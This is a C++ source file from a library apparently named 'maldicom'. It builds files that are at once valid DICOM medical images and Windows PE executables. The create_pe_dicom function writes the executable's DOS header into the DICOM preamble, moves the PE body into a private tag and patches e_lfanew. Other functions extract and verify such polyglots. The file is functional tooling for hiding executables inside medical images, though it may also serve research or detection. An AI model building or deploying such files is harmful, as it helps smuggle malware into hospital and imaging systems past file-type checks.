#include "maldicom/polyglot.hpp"

#include <algorithm>
#include <cstring>

#include <json.hpp>

namespace maldicom::polyglot {

namespace {

constexpr std::uint8_t kPeSig[4] = {'P', 'E', 0, 0};

std::uint32_t read_u32(std::span<const std::uint8_t> b, std::size_t off) {
    return static_cast<std::uint32_t>(b[off]) | (static_cast<std::uint32_t>(b[off + 1]) << 8) |
           (static_cast<std::uint32_t>(b[off + 2]) << 16) |
           (static_cast<std::uint32_t>(b[off + 3]) << 24);
}

bool pe_sig_at(std::span<const std::uint8_t> b, std::uint64_t off) {
    return off + 4 <= b.size() && std::memcmp(b.data() + off, kPeSig, 4) == 0;
}

} // namespace

std::string record_to_json(const InjectionRecord& r) {
    nlohmann::json j{
        {"payload_tag", dicom::tag_to_string(r.payload_tag)},
        {"original_e_lfanew", r.original_e_lfanew},
        {"new_e_lfanew", r.new_e_lfanew},
        {"stub_truncated_bytes", r.stub_truncated_bytes},
        {"pe_body_offset", r.pe_body_offset},
        {"rebase_delta", r.rebase_delta},
        {"padding_len", r.padding_len},
    };
    return j.dump(2) + "\n";
}

InjectionRecord record_from_json(const std::string& json) {
    nlohmann::json j = nlohmann::json::parse(json);
    InjectionRecord r;
    auto tag = dicom::tag_from_string(j.at("payload_tag").get<std::string>());
    if (!tag) {
        throw Error(ErrorCode::RecordMismatch, "unparseable payload_tag in record");
    }
    r.payload_tag = *tag;
    r.original_e_lfanew = j.at("original_e_lfanew").get<std::uint32_t>();
    r.new_e_lfanew = j.at("new_e_lfanew").get<std::uint32_t>();
    r.stub_truncated_bytes = j.at("stub_truncated_bytes").get<std::uint32_t>();
    r.pe_body_offset = j.at("pe_body_offset").get<std::uint64_t>();
    r.rebase_delta = j.at("rebase_delta").get<std::int64_t>();
    r.padding_len = j.at("padding_len").get<std::uint32_t>();
    return r;
}

std::pair<std::vector<std::uint8_t>, InjectionRecord>
create_pe_dicom(std::span<const std::uint8_t> pe_bytes,
                std::span<const std::uint8_t> dicom_bytes,
                dicom::Tag payload_tag) {
    if (!payload_tag.is_private()) {
        throw Error(ErrorCode::EvenGroupTag,
                    "payload tag " + dicom::tag_to_string(payload_tag) + " is public");
    }

    pe::PeView pe_view = pe::parse_pe(pe_bytes);
    dicom::DicomFile host = dicom::parse_dicom(dicom_bytes);
    if (dicom::get_element(host, payload_tag) != nullptr) {
        throw Error(ErrorCode::PayloadTagCollision,
                    dicom::tag_to_string(payload_tag) + " already present in the host");
    }

    InjectionRecord rec;
    rec.payload_tag = payload_tag;
    rec.original_e_lfanew = pe_view.dos_header.e_lfanew();
    rec.padding_len = 0;

    // DOS header + as much stub as fits become the preamble, zero padded to 128.
    static_assert(pe::kDosHeaderSize <= dicom::kPreambleSize);
    std::size_t stub_room = dicom::kPreambleSize - pe::kDosHeaderSize;
    std::size_t stub_kept = std::min(pe_view.dos_stub.size(), stub_room);
    rec.stub_truncated_bytes = static_cast<std::uint32_t>(pe_view.dos_stub.size() - stub_kept);

    bool explicit_vr = host.transfer_syntax == dicom::TransferSyntax::ExplicitVRLittleEndian;
    std::size_t header_len = explicit_vr ? 12 : 8; // OB long form vs implicit
    std::uint64_t body_offset = dicom::kMinFileSize + dicom::meta_info_size(host) +
                                header_len + rec.padding_len;
    if (body_offset > 0xFFFFFFFFull) {
        throw Error(ErrorCode::OffsetOverflow, "PE body lands past the 4 GiB e_lfanew limit");
    }
    rec.pe_body_offset = body_offset;
    rec.new_e_lfanew = static_cast<std::uint32_t>(body_offset);
    rec.rebase_delta = static_cast<std::int64_t>(body_offset) - rec.original_e_lfanew;

    std::vector<std::uint8_t> rest = pe::snip_remaining_from_pe(pe_view);
    rest = pe::rebase_sections(rest, rec.rebase_delta);

    std::vector<std::uint8_t> payload;
    payload.reserve(rec.padding_len + rest.size());
    payload.insert(payload.end(), rec.padding_len, 0x00);
    payload.insert(payload.end(), rest.begin(), rest.end());

    dicom::DicomFile out = host;
    std::copy(pe_view.dos_header.bytes.begin(), pe_view.dos_header.bytes.end(),
              out.preamble.begin());
    std::copy(pe_view.dos_stub.begin(), pe_view.dos_stub.begin() + stub_kept,
              out.preamble.begin() + pe::kDosHeaderSize);
    std::fill(out.preamble.begin() + pe::kDosHeaderSize + stub_kept, out.preamble.end(), 0x00);

    // e_lfanew now points past the DICOM metadata at the relocated signature.
    pe::DosHeader patched;
    std::copy(out.preamble.begin(), out.preamble.begin() + pe::kDosHeaderSize,
              patched.bytes.begin());
    patched.set_e_lfanew(rec.new_e_lfanew);
    std::copy(patched.bytes.begin(), patched.bytes.end(), out.preamble.begin());

    // The payload element must be the first thing after the metadata so the
    // signature lands exactly at pe_body_offset.
    dicom::DataElement elem =
        dicom::make_element(payload_tag, explicit_vr ? "OB" : "", std::move(payload));
    out.body_elements.insert(out.body_elements.begin(), std::move(elem));

    std::vector<std::uint8_t> bytes = dicom::serialize_dicom(out);
    if (!pe_sig_at(bytes, rec.pe_body_offset)) {
        throw Error(ErrorCode::InvariantViolation, "signature missed the computed offset");
    }
    return {std::move(bytes), rec};
}

std::vector<std::uint8_t> extract_pe(std::span<const std::uint8_t> polyglot_bytes,
                                     const InjectionRecord& record) {
    if (polyglot_bytes.size() < dicom::kMinFileSize ||
        polyglot_bytes[0] != 'M' || polyglot_bytes[1] != 'Z') {
        throw Error(ErrorCode::RecordMismatch, "no MZ magic at offset 0");
    }
    if (!pe_sig_at(polyglot_bytes, record.pe_body_offset)) {
        throw Error(ErrorCode::RecordMismatch, "no PE signature at pe_body_offset");
    }
    if (read_u32(polyglot_bytes, pe::kELfanewOffset) != record.new_e_lfanew) {
        throw Error(ErrorCode::RecordMismatch, "e_lfanew does not match the record");
    }

    dicom::DicomFile f = dicom::parse_dicom(polyglot_bytes);
    const dicom::DataElement* payload = dicom::get_element(f, record.payload_tag);
    if (payload == nullptr || payload->value_offset + record.padding_len != record.pe_body_offset) {
        throw Error(ErrorCode::RecordMismatch, "payload element not where the record says");
    }
    if (payload->original_length < record.padding_len) {
        throw Error(ErrorCode::RecordMismatch, "payload shorter than its padding");
    }

    std::vector<std::uint8_t> rest(payload->value.begin() + record.padding_len,
                                   payload->value.begin() + payload->original_length);
    rest = pe::rebase_sections(rest, -record.rebase_delta);

    std::uint32_t stub_len = record.original_e_lfanew - static_cast<std::uint32_t>(pe::kDosHeaderSize);
    std::uint32_t stub_kept = stub_len - record.stub_truncated_bytes;

    std::vector<std::uint8_t> out;
    out.reserve(pe::kDosHeaderSize + stub_len + rest.size());
    out.insert(out.end(), polyglot_bytes.begin(), polyglot_bytes.begin() + pe::kDosHeaderSize);
    pe::DosHeader restored;
    std::copy(out.begin(), out.begin() + pe::kDosHeaderSize, restored.bytes.begin());
    restored.set_e_lfanew(record.original_e_lfanew);
    std::copy(restored.bytes.begin(), restored.bytes.end(), out.begin());

    out.insert(out.end(), polyglot_bytes.begin() + pe::kDosHeaderSize,
               polyglot_bytes.begin() + pe::kDosHeaderSize + stub_kept);
    out.insert(out.end(), record.stub_truncated_bytes, 0x00); // lost to truncation
    out.insert(out.end(), rest.begin(), rest.end());
    return out;
}

PolyglotCheck verify_polyglot(std::span<const std::uint8_t> bytes) noexcept {
    PolyglotCheck c;
    try {
        dicom::parse_dicom(bytes);
        c.is_dicom = true;
    } catch (...) {
    }
    try {
        pe::parse_pe(bytes);
        c.is_pe = true;
    } catch (...) {
    }
    if (bytes.size() >= pe::kDosHeaderSize) {
        c.e_lfanew_target_is_pe_sig = pe_sig_at(bytes, read_u32(bytes, pe::kELfanewOffset));
    }
    return c;
}

} // namespace maldicom::polyglot
